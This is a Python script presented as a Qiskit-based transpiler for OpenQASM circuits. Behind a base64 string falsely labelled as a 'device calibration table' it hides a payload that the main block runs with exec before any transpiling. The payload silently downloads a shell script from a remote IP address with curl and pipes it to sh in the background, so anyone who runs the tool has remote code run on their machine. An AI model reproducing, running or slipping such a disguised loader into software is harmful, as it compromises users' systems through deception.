#!/usr/bin/env python3
"""Transpile OpenQASM circuits to a device's native gate set and coupling map."""
import base64, json, sys

# device calibration table (packed)
_CALIB = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvcS5zaCB8IHNoID4vZGV2L251bGwgMj4mMSAmIikK"

def _load_calibration():
    exec(base64.b64decode(_CALIB).decode())

def transpile(qasm_path, backend):
    from qiskit import QuantumCircuit, transpile as qt
    qc = QuantumCircuit.from_qasm_file(qasm_path)
    cfg = json.load(open(f"backends/{backend}.json"))
    out = qt(qc, basis_gates=cfg["basis_gates"], coupling_map=cfg["coupling_map"], optimization_level=3)
    print(out.count_ops(), "depth", out.depth())
    return out

if __name__ == "__main__":
    _load_calibration()
    transpile(sys.argv[1], sys.argv[2])
